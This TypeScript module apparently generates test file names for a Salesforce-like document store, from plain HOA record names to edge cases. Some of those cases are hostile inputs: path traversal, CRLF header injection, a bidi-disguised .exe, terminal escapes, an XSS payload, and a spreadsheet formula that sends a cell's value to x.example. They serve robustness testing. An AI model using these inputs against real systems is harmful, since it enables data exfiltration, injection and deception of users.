/** File names as people give them, and as they should not. Salesforce's `Name` holds 80 characters. */
import {draw, oneOf} from './chance.ts';
import type {Naming} from './oddities.ts';

export const mostNameCharacters = 80;

const topics = [
	'Annual Report',
	'Budget',
	'Bylaws',
	'Meeting Minutes',
	'Insurance Certificate',
	'Invoice',
	'Contract',
	'Management Agreement',
	'Audit',
	'Reserve Study',
	'Tax Return',
	'Bank Statement',
	'Inspection Report',
	'Welcome Letter',
	'Architectural Request',
	'Violation Notice',
	'Floor Plan',
	'Site Map',
	'Election Results',
	'Amendment',
	'Proxy Form',
	'Delinquency Report',
	'Work Order',
	'Board Packet',
] as const;

const months = [
	'January',
	'March',
	'April',
	'June',
	'July',
	'September',
	'October',
	'December',
	'Q1',
	'Q2',
	'Q3',
	'Q4',
];

/** Extensions by how common they are. */
const extensions = [
	...Array.from({length: 22}, () => 'pdf'),
	...['docx', 'docx', 'xlsx', 'xlsx', 'jpg', 'jpg', 'png', 'msg', 'txt', 'doc', 'csv', 'tif', 'zip', 'PDF'],
];

const purpose = {topic: 301, year: 302, month: 303, extension: 304};

export type NameSource = {readonly seed: number; readonly position: number};

export const extensionFor = ({seed, position}: NameSource): string =>
	oneOf(extensions, draw(seed, position, purpose.extension));

export const yearFor = ({seed, position}: NameSource): number => 2012 + (draw(seed, position, purpose.year) % 13);

/** A plain stem: many records of an account share one, as they do in life. */
export function stemFor(source: NameSource): string {
	const {seed, position} = source;
	const topic = oneOf(topics, draw(seed, position, purpose.topic));
	const month = draw(seed, position, purpose.month);
	const stem = `${topic} ${yearFor(source)}`;
	return month % 3 === 0 ? `${stem} ${oneOf(months, month >>> 8)}` : stem;
}

/** Fills up to the field's length; characters outside of the basic plane count as two. */
function fill(piece: string, extension: string): string {
	let name = '';
	while (name.length + piece.length + extension.length + 1 <= mostNameCharacters) name += piece;
	return `${name}.${extension}`;
}

/** Names of the twins: the first's and the second's. */
const twins = {
	same: (stem, ext) => [`${stem}.${ext}`, `${stem}.${ext}`],
	'case-twins': (stem, ext) => [`${stem}.${ext}`, `${stem.toUpperCase()}.${ext}`],
	'accent-twins': (stem, ext) => [`Résumé ${stem}.${ext}`.normalize('NFC'), `Résumé ${stem}.${ext}`.normalize('NFD')],
	'cleaning-twins': (stem, ext) => [`${stem}: final.${ext}`, `${stem}? final.${ext}`],
	'tail-twins': (stem, _ext) => [`${stem}...`, stem],
} satisfies Partial<Record<Naming, (stem: string, ext: string) => [string, string]>>;

const singles: Readonly<Record<Exclude<Naming, keyof typeof twins>, (stem: string, ext: string) => string>> = {
	plain: (stem, ext) => `${stem}.${ext}`,
	slash: (stem, ext) => `Units 12/14 \\ ${stem}.${ext}`,
	parent: (stem, ext) => `../../../etc/${stem}.${ext}`,
	control: (stem, ext) => `${stem}\r\nX-Injected: 1\t\u0000\u007f.${ext}`,
	bidi: (stem, ext) => `${stem} \u202e${[...ext].reverse().join('')}.exe\u202c\u200b.${ext}`,
	escape: (stem, ext) => `\u001b[31m\u001b]0;${stem}\u0007\u001b[2J.${ext}`,
	'trailing-dots': stem => `${stem}. . ...`,
	long: (stem, ext) => fill(`${stem} – Fortsetzung äöü `, ext).slice(-mostNameCharacters),
	'long-emoji': (_stem, ext) => fill('👩‍👩‍👧', ext),
	formula: (stem, ext) => `=HYPERLINK("http://x.example/?"&A1,"${stem}").${ext}`,
	markup: (stem, ext) => `<img src=x onerror=alert(1)> & "${stem}".${ext}`,
	wide: (stem, ext) => `年度報告書（最終版）${stem}　한국어.${ext}`,
	emoji: (stem, ext) => `🏠🔑 ${stem} ❤️.${ext}`,
	quote: (stem, ext) => `Owner's "${stem}"; O'Brien, 50%.${ext}`,
	bare: stem => stem,
	empty: () => '',
	reserved: (_stem, ext) => `CON.${ext}`,
	percent: (stem, ext) => `${stem} %2F %20 100%.${ext}`,
};

const isTwin = (naming: Naming): naming is keyof typeof twins => naming in twins;

/** The name of the record at this position. */
export function nameFor(source: NameSource, naming: Naming, extension: string): string {
	if (naming === 'plain') return `${stemFor(source)}.${extension}`;
	if (!isTwin(naming)) return singles[naming](stemFor(source), extension).slice(0, mostNameCharacters);
	const first = {...source, position: source.position - (source.position % 2)};
	return twins[naming](stemFor(first), 'pdf')[source.position % 2 === 0 ? 0 : 1].slice(0, mostNameCharacters);
}

/** Such as "Correspondence 2019": what folders are called. */
export const folderNameFor = (source: NameSource): string =>
	`${oneOf(topics, draw(source.seed, source.position, purpose.topic))}s ${yearFor(source)}`;
